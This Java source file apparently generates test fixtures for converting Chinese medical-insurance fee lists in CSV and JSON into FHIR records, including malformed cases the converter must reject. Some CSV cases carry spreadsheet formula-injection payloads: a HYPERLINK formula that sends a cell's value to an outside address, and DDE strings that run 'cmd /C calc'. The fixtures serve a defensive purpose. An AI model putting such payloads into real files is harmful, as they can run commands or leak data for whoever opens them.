package org.claimexchange.fhir.records;

import static org.claimexchange.fhir.records.RecordFolder.lineOf;
import static org.claimexchange.fhir.records.SettlementRecords.yuan;

import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

/** Makes the record files of the fee list, once as CSV and once as JSON. */
final class FeeListRecords {
  private static final String OWN = "https://claimexchange.org/fhir/StructureDefinition/";

  /** Columns of the CSV by field; the order of the file. */
  private static final Map<String, String> COLUMNS = new LinkedHashMap<>();

  static {
    String[] pairs = {
      "psn_name",
      "姓名",
      "psn_cert_type",
      "证件类型",
      "certno",
      "证件号码",
      "gend",
      "性别",
      "brdy",
      "出生日期",
      "fixmedins_code",
      "机构编码",
      "fixmedins_name",
      "机构名称",
      "mdtrt_id",
      "就诊号",
      "med_type",
      "医疗类别",
      "begntime",
      "就诊开始时间",
      "endtime",
      "就诊结束时间",
      "feedetl_sn",
      "费用流水号",
      "init_feedetl_sn",
      "原费用流水号",
      "fee_ocur_time",
      "费用发生时间",
      "med_chrgitm_type",
      "收费类别",
      "med_list_codg",
      "医保编码",
      "medins_list_codg",
      "项目编码",
      "medins_list_name",
      "项目名称",
      "spec",
      "规格",
      "unit",
      "单位",
      "pric",
      "单价",
      "cnt",
      "数量",
      "det_item_fee_sumamt",
      "金额",
      "chrgitm_lv",
      "医保等级",
      "selfpay_prop",
      "自付比例",
      "fulamt_ownpay_amt",
      "全自费金额",
      "overlmt_amt",
      "超限价金额",
      "preselfpay_amt",
      "先行自付金额",
      "bilg_dept_name",
      "开单科室",
      "bilg_dr_name",
      "开单医师"
    };
    for (int i = 0; i < pairs.length; i += 2) {
      COLUMNS.put(pairs[i], pairs[i + 1]);
    }
  }

  /**
   * An item of the price list: class code and name, insurance code, own code, unit, fen, grade,
   * ratio.
   */
  private record Item(
      String classCode,
      String className,
      String nhsa,
      String own,
      String name,
      String unit,
      long fen,
      String grade,
      String ratio) {}

  private static final List<Item> ITEMS =
      List.of(
          new Item(
              "01",
              "床位费",
              "001109000010000-110900001",
              "SF-F0101",
              "普通病房床位费",
              "日",
              5500,
              "01",
              "0"),
          new Item(
              "02", "诊察费", "001102000050000-110200005", "SF-F0201", "住院诊察费", "日", 4000, "01", "0"),
          new Item(
              "03",
              "检查费",
              "002203010010000-220301001",
              "SF-F0301",
              "腹部彩色多普勒超声检查",
              "次",
              16000,
              "01",
              "0"),
          new Item(
              "04",
              "化验费",
              "002501010150000-250101015",
              "SF-F0401",
              "血常规（五分类）",
              "次",
              2000,
              "01",
              "0"),
          new Item(
              "06",
              "手术费",
              "003310080200000-331008020",
              "SF-F0601",
              "腹腔镜下胆囊切除术",
              "次",
              273000,
              "01",
              "0"),
          new Item(
              "09", "西药费", "XJ01DCT090B001010104021", "SF-Y0901", "注射用头孢呋辛钠", "支", 1862, "01", "0"),
          new Item(
              "09",
              "西药费",
              "XA02BCA207B002010101445",
              "SF-Y0902",
              "注射用奥美拉唑钠",
              "支",
              1386,
              "02",
              "0.1"),
          new Item(
              "08",
              "卫生材料费",
              "C0904020030000406520",
              "SF-W0801",
              "一次性腹腔镜穿刺器",
              "套",
              48600,
              "02",
              "0.2"),
          new Item(
              "08", "卫生材料费", "C1402080010000205333", "SF-W0802", "医用防粘连膜", "片", 126000, "03", "1"),
          new Item(
              "11", "中成药费", "ZA01AAS0022010100001", "SF-Z1101", "双黄连口服液", "盒", 1980, "02", "0.1"));

  private final RecordFolder csv;
  private final RecordFolder json;

  FeeListRecords(Path root) throws IOException {
    this.csv = new RecordFolder(root, "fee-list-csv", "csv");
    this.json = new RecordFolder(root, "fee-list-json", "json");
  }

  /** One list. */
  private static final class Draft {
    final Map<String, String> head = new LinkedHashMap<>();
    final List<Map<String, String>> lines = new ArrayList<>();
    final Expectation expected = new Expectation();

    String json() {
      var tree = new LinkedHashMap<String, Object>(head);
      tree.put("feedetail", lines);
      return Json.pretty(tree);
    }

    String csv(boolean chinese) {
      var text = new StringBuilder();
      text.append(
          COLUMNS.entrySet().stream()
              .map(column -> chinese ? column.getValue() : column.getKey())
              .collect(Collectors.joining(",")));
      for (var line : lines) {
        text.append("\r\n")
            .append(
                COLUMNS.keySet().stream()
                    .map(field -> cell(line.getOrDefault(field, head.getOrDefault(field, ""))))
                    .collect(Collectors.joining(",")));
      }
      return text.append("\r\n").toString();
    }

    private static String cell(String text) {
      return text.contains(",") || text.contains("\"") || text.contains("\n")
          ? "\"" + text.replace("\"", "\"\"") + "\""
          : text;
    }
  }

  void write() throws IOException {
    for (int i = 0; i < 22; i++) {
      var draft = draft(i);
      csv.write(
          i % 2 == 0 ? "chinese-header" : "field-header", draft.csv(i % 2 == 0), draft.expected);
      json.write("list", draft.json(), draft.expected);
    }
    var chinese = draft(22);
    csv.write("gb18030", chinese.csv(true).getBytes(RecordFolder.GB18030), chinese.expected);
    json.write("gb18030", chinese.json().getBytes(RecordFolder.GB18030), chinese.expected);
    var marked = draft(23);
    csv.write("byte-order-mark", "\uFEFF" + marked.csv(true), marked.expected);
    increments();
    odd();
    refused();
    onlyCsv();
    onlyJson();
  }

  private static Draft draft(int i) {
    var draft = new Draft();
    var folk = Folk.of(i);
    var kind = i % 5 == 4 ? "11" : i % 7 == 6 ? "13" : "21";
    put(
        draft.head,
        "psn_name",
        folk.name(),
        "psn_cert_type",
        "01",
        "certno",
        folk.certificate(),
        "gend",
        folk.genderCode(),
        "brdy",
        folk.birth(),
        "fixmedins_code",
        "H31010100001",
        "fixmedins_name",
        "示范第一医院",
        "mdtrt_id",
        "3100%06d".formatted(1000 + i),
        "med_type",
        kind,
        "begntime",
        "2026-03-01 08:00:00",
        "endtime",
        "2026-03-09 10:00:00");
    folk.expect(draft.expected);
    draft.expected.is(
        "Encounter.class.code", kind.equals("11") ? "AMB" : kind.equals("13") ? "EMER" : "IMP");
    draft.expected.is("Encounter.period.end", "2026-03-09T10:00:00+08:00");
    for (int n = 0; n < 3 + i % 6; n++) {
      var item = ITEMS.get((i + n) % ITEMS.size());
      line(
          draft,
          item,
          "FY%04d%04d".formatted(i, n),
          1 + n % 3,
          "2026-03-%02d 08:%02d:00".formatted(1 + n, i),
          "");
    }
    expect(draft);
    return draft;
  }

  private static void line(
      Draft draft, Item item, String number, long count, String time, String reversed) {
    long fen = item.fen() * count;
    var line =
        put(
            new LinkedHashMap<>(),
            "feedetl_sn",
            number,
            "fee_ocur_time",
            time,
            "med_chrgitm_type",
            item.classCode(),
            "med_list_codg",
            item.nhsa(),
            "medins_list_codg",
            item.own(),
            "medins_list_name",
            item.name(),
            "unit",
            item.unit(),
            "pric",
            yuan(item.fen()),
            "cnt",
            "" + count,
            "det_item_fee_sumamt",
            yuan(fen),
            "chrgitm_lv",
            item.grade(),
            "selfpay_prop",
            item.ratio(),
            "fulamt_ownpay_amt",
            yuan(item.grade().equals("03") ? fen : 0),
            "overlmt_amt",
            "0.00",
            "preselfpay_amt",
            yuan(item.grade().equals("02") ? fen / 10 : 0),
            "bilg_dept_name",
            "普外科",
            "bilg_dr_name",
            "刘医生");
    if (!reversed.isEmpty()) {
      line.put("init_feedetl_sn", reversed);
    }
    draft.lines.add(line);
  }

  private static void expect(Draft draft) {
    draft
        .expected
        .is("ChargeItem.identifier.value", all(draft, "feedetl_sn"))
        .is("ChargeItem.code.text", all(draft, "medins_list_name"))
        .is(
            "ChargeItem.code.coding.where(system='https://claimexchange.org/fhir/CodeSystem/nhsa-item').code",
            all(draft, "med_list_codg"))
        .is(
            "ChargeItem.code.coding.where(system='https://claimexchange.org/fhir/CodeSystem/fee-class').code",
            draft.lines.stream()
                .map(line ->
                    ITEMS.stream()
                        .filter(item -> item.classCode().equals(line.get("med_chrgitm_type")))
                        .findFirst()
                        .orElseThrow()
                        .className())
                .toList())
        .is("ChargeItem.quantity.value", all(draft, "cnt"))
        .is("ChargeItem.quantity.unit", all(draft, "unit"))
        .is("ChargeItem.priceOverride.value", all(draft, "det_item_fee_sumamt"))
        .is("ChargeItem.extension('" + OWN + "unit-price').value.value", all(draft, "pric"))
        .is(
            "ChargeItem.extension('" + OWN + "insurance-grade').value",
            all(draft, "chrgitm_lv").stream()
                .map(grade -> grade.equals("01") ? "A" : grade.equals("02") ? "B" : "C")
                .toList())
        .is("ChargeItem.extension('" + OWN + "self-pay-ratio').value", all(draft, "selfpay_prop"))
        .is(
            "ChargeItem.extension('" + OWN + "self-funded-amount').value.value",
            all(draft, "fulamt_ownpay_amt"))
        .is(
            "ChargeItem.extension('" + OWN + "pay-first-amount').value.value",
            all(draft, "preselfpay_amt"))
        .is(
            "ChargeItem.occurrence",
            all(draft, "fee_ocur_time").stream().map(t -> t.replace(' ', 'T') + "+08:00").toList());
  }

  private static List<String> all(Draft draft, String field) {
    return draft.lines.stream().map(line -> line.getOrDefault(field, "")).toList();
  }

  /** Parts of a list, and a charge that is taken back. */
  private void increments() throws IOException {
    var second = draft(24);
    second.head.put("after_feedetl_sn", "FY00239999");
    json.write("after-a-record", second.json(), second.expected);
    var back = draft(25);
    line(back, ITEMS.get(7), "FY00259990", -1, "2026-03-20 10:00:00", "FY00250001");
    expect(back);
    back.expected.is("ChargeItem.partOf.identifier.value", "FY00250001");
    csv.write("taken-back", back.csv(true), back.expected);
    json.write("taken-back", back.json(), back.expected);
    var repeated = draft(24);
    repeated.head.put("after_feedetl_sn", "FY00240001");
    json.write(
        "record-again",
        repeated.json(),
        new Expectation()
            .refused(
                "DUPLICATE",
                "feedetail[1].feedetl_sn",
                lineOf(repeated.json(), "\"feedetl_sn\" : \"FY00240001\"")));
  }

  private void odd() throws IOException {
    both(
        "quoted-name",
        26,
        draft -> {
          draft.lines.getFirst().put("medins_list_name", "氯化钠注射液,\"双管\" 100ml");
          expect(draft);
        });
    both(
        "grade-as-word",
        27,
        draft ->
            draft.lines.forEach(line ->
                line.put(
                    "chrgitm_lv",
                    line.get("chrgitm_lv").equals("01")
                        ? "甲类"
                        : line.get("chrgitm_lv").equals("02") ? "乙类" : "丙类")));
    both(
        "unknown-grade",
        28,
        draft -> {
          draft.lines.getFirst().put("chrgitm_lv", "88");
          var grades = new ArrayList<String>();
          draft.lines.forEach(line ->
              grades.add(
                  line.get("chrgitm_lv").equals("88")
                      ? "88"
                      : line.get("chrgitm_lv").equals("01")
                          ? "A"
                          : line.get("chrgitm_lv").equals("02") ? "B" : "C"));
          draft.expected.is("ChargeItem.extension('" + OWN + "insurance-grade').value", grades);
          draft.expected.remark("UNKNOWN_CODE", "?[0].chrgitm_lv");
        });
    both(
        "dash-for-ratio",
        29,
        draft -> {
          draft.lines.getFirst().put("selfpay_prop", "-");
          draft.expected.is(
              "ChargeItem.extension('" + OWN + "self-pay-ratio').value",
              all(draft, "selfpay_prop").subList(1, draft.lines.size()));
          draft.expected.remark("PLACEHOLDER", "?[0].selfpay_prop");
        });
    both(
        "unknown-visit-kind",
        30,
        draft -> {
          draft.head.put("med_type", "77");
          draft.expected.is("Encounter.class.display", "77").is("Encounter.class.code", "UNK");
        });
    both(
        "protected-item",
        31,
        draft -> {
          draft.lines.getFirst().put("medins_list_name", "HIV抗体测定");
          expect(draft);
          draft.expected.is("DocumentReference.meta.security.code", "HIV");
        });
    both(
        "no-insurance-code",
        32,
        draft -> {
          draft.lines.getLast().put("med_list_codg", "");
          draft.expected.is(
              "ChargeItem.code.coding.where(system='https://claimexchange.org/fhir/CodeSystem/nhsa-item').code",
              all(draft, "med_list_codg").subList(0, draft.lines.size() - 1));
        });
    both(
        "thousandth-price",
        33,
        draft -> {
          draft.lines.getFirst().put("pric", "0.3333");
          expect(draft);
        });
  }

  private interface Change {
    void on(Draft draft);
  }

  private void both(String name, int i, Change change) throws IOException {
    for (boolean asCsv : new boolean[] {true, false}) {
      var draft = draft(i);
      change.on(draft);
      var at = new Expectation();
      draft
          .expected
          .text()
          .lines()
          .forEach(line -> {
            var here =
                asCsv ? line.replace("?[0]", "row[1]") : line.replace("?[0]", "feedetail[0]");
            int is = here.indexOf(" = ");
            if (is < 0) {
              at.remark(here.split(" ", -1)[1], here.split(" ", -1)[3]);
            } else {
              at.is(here.substring(0, is), here.substring(is + 3));
            }
          });
      if (asCsv) {
        csv.write(name, draft.csv(true), at);
      } else {
        json.write(name, draft.json(), at);
      }
    }
  }

  private void refused() throws IOException {
    refusedBoth("without-record-number", 34, 1, "feedetl_sn", "", "MISSING");
    refusedBoth("without-amount", 35, 0, "det_item_fee_sumamt", "", "MISSING");
    refusedBoth("price-in-words", 36, 2, "pric", "五元", "WRONG_TYPE");
    refusedBoth("ratio-over-one", 37, 1, "selfpay_prop", "10", "WRONG_TYPE");
    refusedBoth("no-such-day", 38, 0, "fee_ocur_time", "2026-13-01 00:00:00", "WRONG_TYPE");
    refusedBoth("amount-below-fen", 39, 1, "det_item_fee_sumamt", "1.005", "WRONG_TYPE");
    var twice = draft(40);
    twice.lines.getLast().put("feedetl_sn", twice.lines.getFirst().get("feedetl_sn"));
    int n = twice.lines.size();
    csv.write(
        "record-twice",
        twice.csv(true),
        new Expectation().refused("DUPLICATE", "row[" + n + "].feedetl_sn", n + 1));
    json.write(
        "record-twice",
        twice.json(),
        new Expectation()
            .refused(
                "DUPLICATE",
                "feedetail[" + (n - 1) + "].feedetl_sn",
                lastLineOf(twice.json(), "\"feedetl_sn\"")));
  }

  private void refusedBoth(String name, int i, int row, String field, String value, String defect)
      throws IOException {
    var draft = draft(i);
    draft.lines.get(row).put(field, value);
    csv.write(
        name,
        draft.csv(true),
        new Expectation().refused(defect, "row[" + (row + 1) + "]." + field, row + 2));
    var text = draft.json();
    var lines = text.lines().toList();
    int seen = -1;
    int line = 0;
    for (int at = 0; at < lines.size(); at++) {
      if (lines.get(at).strip().startsWith("\"" + field + "\"") && ++seen == row) {
        line = at + 1;
      }
    }
    json.write(
        name, text, new Expectation().refused(defect, "feedetail[" + row + "]." + field, line));
  }

  private void onlyCsv() throws IOException {
    String[][] formulas = {
      {"formula-hyperlink", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点此\")"},
      {"formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"},
      {"formula-minus", "-2+3+cmd|' /C calc'!A0"},
      {"formula-full-width", "＝1+1"}
    };
    for (String[] formula : formulas) {
      var draft = draft(41);
      draft.lines.get(1).put("medins_list_name", formula[1]);
      csv.write(
          formula[0], draft.csv(true), new Expectation().refused("FORMULA", "medins_list_name", 3));
    }
    var other = draft(42);
    other.lines.get(1).put("certno", Folk.of(3).certificate());
    csv.write(
        "two-persons",
        other.csv(true),
        new Expectation().refused("OTHER_PERSON", "row[2].certno", 3));
    var cut = draft(43).csv(true);
    csv.write(
        "cut",
        cut.substring(0, cut.lastIndexOf(',') - 20),
        new Expectation().refused("TRUNCATED", "", draft(43).lines.size() + 1));
    var big5 = draft(44);
    big5.lines.forEach(line -> line.put("bilg_dept_name", "一般外科門診部"));
    var text =
        big5.csv(false)
            .replace("示范第一医院", "示範醫院")
            .replace("刘医生", "劉醫師")
            .replace("普通病房床位费", "普通病房")
            .replace("诊", "診")
            .replace("查", "查");
    csv.write(
        "big5",
        text.getBytes(Charset.forName("Big5")),
        new Expectation().refused("ENCODING", "", 2));
    csv.write(
        "utf-16",
        draft(45).csv(true).getBytes(StandardCharsets.UTF_16),
        new Expectation().refused("ENCODING", "", 1));
    csv.write(
        "header-alone",
        String.join(",", COLUMNS.values()) + "\r\n",
        new Expectation().refused("MISSING", "", 1));
  }

  private void onlyJson() throws IOException {
    var none = draft(41);
    json.write(
        "no-lines", Json.pretty(none.head), new Expectation().refused("MISSING", "feedetail", 1));
    var cut = draft(42).json();
    var half = cut.substring(0, cut.lastIndexOf("\"unit\"") + 10);
    json.write(
        "cut",
        half,
        new Expectation()
            .refused(
                "TRUNCATED",
                "feedetail[" + (draft(42).lines.size() - 1) + "].unit",
                (int) half.lines().count()));
    json.write(
        "two-objects",
        draft(43).json() + "{}",
        new Expectation().refused("MALFORMED", "", (int) draft(43).json().lines().count() + 1));
  }

  private static int lastLineOf(String text, String what) {
    return 1
        + (int) text.substring(0, text.lastIndexOf(what)).chars().filter(c -> c == '\n').count();
  }

  private static Map<String, String> put(Map<String, String> into, String... pairs) {
    for (int i = 0; i < pairs.length; i += 2) {
      into.put(pairs[i], pairs[i + 1]);
    }
    return into;
  }
}
